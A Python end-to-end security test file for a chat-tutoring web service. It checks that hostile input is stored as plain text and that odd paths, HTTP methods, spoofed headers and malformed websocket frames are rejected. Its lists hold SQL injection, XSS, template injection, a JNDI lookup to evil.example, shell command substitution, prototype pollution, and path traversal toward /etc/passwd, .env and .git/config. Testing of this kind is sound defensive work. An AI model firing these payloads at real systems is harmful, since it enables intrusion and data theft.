"""Text that means something to a database, a browser or a template, and addresses that lead astray.

It is stored and answered as it is, over HTTP and the socket, and nothing comes of it.
"""

import asyncio
import json
from typing import Any
from urllib.parse import urlsplit
from uuid import uuid4

import aiohttp
import pytest

from app.platform.sql import fetch
from tests.e2e.conftest import RunServer
from tests.e2e.learner import until
from tests.meeting import MeetLearner

HOSTILE = [
    "'; DROP TABLE users; --",
    "1' OR '1'='1",
    "$1; SELECT pg_sleep(10)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)//",
    "{{7*7}} ${7*7} #{7*7} %(name)s {0} {name}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "$(id) `id` | id ; id",
    "*)(uid=*))(|(uid=*",
    "안녕 \u202e하세요 👩‍👩‍👧",
    '{"__proto__": {"role": "admin"}}',
    "\\u0000 \\x00 %00",
]
NICKNAMES = [text for text in HOSTILE if len(text) <= 40 and "\u202e" not in text]


async def test_a_nickname_is_kept_as_it_is(run_server: RunServer) -> None:
    async with run_server() as server, aiohttp.ClientSession(server.url) as http:
        for nickname in NICKNAMES:
            body = {"nickname": nickname, "birth_year": 1995}
            async with http.post("/api/v1/guests", json=body) as answer:
                assert answer.status == 201, nickname
                signed = await answer.json()
            headers = {"authorization": f"Bearer {signed['access_token']}"}
            async with http.get("/api/v1/me", headers=headers) as answer:
                assert (await answer.json())["nickname"] == nickname
        (count,) = await fetch("SELECT count(*) FROM users")
        assert count["count"] == len(NICKNAMES)


async def test_a_message_is_kept_as_it_is_over_http_and_the_socket(
    run_server: RunServer, meet: MeetLearner
) -> None:
    async with run_server(messages_per_minute=1000) as server, meet(server.url) as learner:
        for over_socket in (True, False):
            for text in HOSTILE:
                if over_socket:
                    sent = await learner.send(text)
                else:
                    path = f"/api/v1/rooms/{learner.room_id}/messages"
                    headers = {"idempotency-key": str(uuid4())}
                    async with learner.http.post(path, json={"text": text}, headers=headers) as it:
                        assert it.status == 201, text
                        sent = await it.json()
                end = await learner.end_of(sent["turn_id"], seconds=40)
                assert end["type"] == "turn.completed", text
        said = [one["text"] for one in learner.of("message.created") if one["author"] == "learner"]
        assert said == HOSTILE * 2
        kept = [one for one in await learner.history() if one["type"] == "message.created"]
        assert [one["text"] for one in kept if one["author"] == "learner"][-len(HOSTILE) :] == said[
            -len(HOSTILE) :
        ]


async def test_names_of_a_frame_that_mean_something_elsewhere_mean_nothing(
    run_server: RunServer, meet: MeetLearner
) -> None:
    async with run_server() as server, meet(server.url) as learner:
        command = {
            "request_id": str(uuid4()),
            "room_id": learner.room_id,
            "text": "안녕하세요",
            "__proto__": {"user_id": "somebody"},
            "user_id": str(uuid4()),
            "author": "persona",
            "role": "admin",
        }
        sent = (await learner.client.rpc("message.send", command)).data

        def mine() -> list[str]:
            created = learner.of("message.created")
            return [one["author"] for one in created if one["message_id"] == sent["message_id"]]

        await until(lambda: bool(mine()))
        assert mine() == ["learner"]


async def raw(url: str, line: bytes, *headers: bytes) -> tuple[int, bytes]:
    """Send a request as it stands; return the status and the rest of the answer."""
    parts = urlsplit(url)
    reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    head = [line, b"Host: localhost", b"Connection: close", *headers]
    writer.write(b"\r\n".join(head) + b"\r\n\r\n")
    async with asyncio.timeout(20):
        answer = await reader.read()
    writer.close()
    return int(answer.split(b" ", 2)[1]), answer


PATHS = [
    b"//api/v1/me",
    b"/api//v1/me",
    b"/api/v1/me/",
    b"/api/v1/me%00",
    b"/api/v1/me;x=1",
    b"/api/v1/./me",
    b"/static/../api/v1/me",
    b"/api%2fv1%2fme",
    b"/api/v1/rooms/%2e%2e/me",
    b"/api/v1/rooms/..%2fme/history",
    b"/api/v1/rooms/%00/history",
    b"/api/v1/rooms/%ff%fe/history",
    b"/api/v1/rooms/" + b"a" * 20_000 + b"/history",
    b"/static/%00",
    b"/static/%00.js",
    b"/static/..%2f..%2fpyproject.toml",
    b"/static/%2e%2e/%2e%2e/pyproject.toml",
    b"/static/..%5c..%5cpyproject.toml",
    b"/static//etc/passwd",
    b"/static/.git/config",
    b"/static/",
    b"/static",
    b"/static/" + b"a" * 20_000,
    b"/%",
    b"/%zz",
    b"/\\..\\..",
    b"/.env",
    b"/?" + b"a=1&" * 5000,
]


async def test_no_way_of_writing_an_address_leads_astray(run_server: RunServer) -> None:
    async with run_server() as server:
        for path in PATHS:
            status, answer = await raw(server.url, b"GET " + path + b" HTTP/1.1")
            if not path.startswith(b"/?"):
                assert 400 <= status < 500, (path[:60], answer[:300])
            assert b"Traceback" not in answer
            assert b"[project]" not in answer


@pytest.mark.parametrize("method", [b"TRACE", b"CONNECT", b"PURGE", b"get", b"A" * 100])
async def test_a_method_that_nobody_needs_does_nothing(
    run_server: RunServer, method: bytes
) -> None:
    async with run_server() as server:
        for path in (b"/", b"/api/v1/me", b"/static/main.js"):
            status, answer = await raw(
                server.url, method + b" " + path + b" HTTP/1.1", b"X-A: echo"
            )
            assert status in {400, 404, 405}, answer[:200]
            assert b"X-A" not in answer


async def test_headers_that_name_another_address_or_way_are_not_believed(
    run_server: RunServer,
) -> None:
    async with run_server() as server:
        tricks = [
            b"X-Forwarded-For: 10.0.0.1",
            b"X-Forwarded-Host: evil.example",
            b"X-Original-URL: /api/v1/admin/audit",
            b"X-Rewrite-URL: /api/v1/admin/audit",
            b"X-HTTP-Method-Override: DELETE",
            b"X-Request-ID: forged\tline",
        ]
        status, answer = await raw(server.url, b"GET /api/v1/tutor HTTP/1.1", *tricks)
        assert status == 200
        assert b"evil.example" not in answer
        assert b"forged" not in answer


async def test_frames_that_are_no_commands_end_the_socket_and_nothing_else(
    run_server: RunServer,
) -> None:
    deep = "[" * 30_000 + "]" * 30_000
    frames: list[str | bytes] = [
        "null",
        "[]",
        "{",
        deep,
        '{"id": 1e400}',
        '{"id": 99999999999999999999999, "connect": {}}',
        '{"id": 1, "connect": {"token": {"__proto__": 1}}}',
        '{"id": 1, "connect": {"token": "a", "token": "b"}}',
        '{"id": 1, "rpc": {"method": "message.send"}}',
        b"\xff\xfe",
        json.dumps({"id": 1, "connect": {"token": "\u0000" * 1000}}),
    ]
    async with run_server() as server, aiohttp.ClientSession() as http:
        for frame in frames:
            async with http.ws_connect(f"{server.url}/connection/websocket") as socket:
                if isinstance(frame, bytes):
                    await socket.send_bytes(frame)
                else:
                    await socket.send_str(frame)
                answer = await socket.receive(timeout=20)
                closed = {aiohttp.WSMsgType.CLOSE, aiohttp.WSMsgType.CLOSED}
                said: Any = None if answer.type in closed else json.loads(answer.data)
                assert said is None or "error" in said, (str(frame)[:60], said)
        async with http.get(f"{server.url}/healthz") as answered:
            assert answered.status == 200
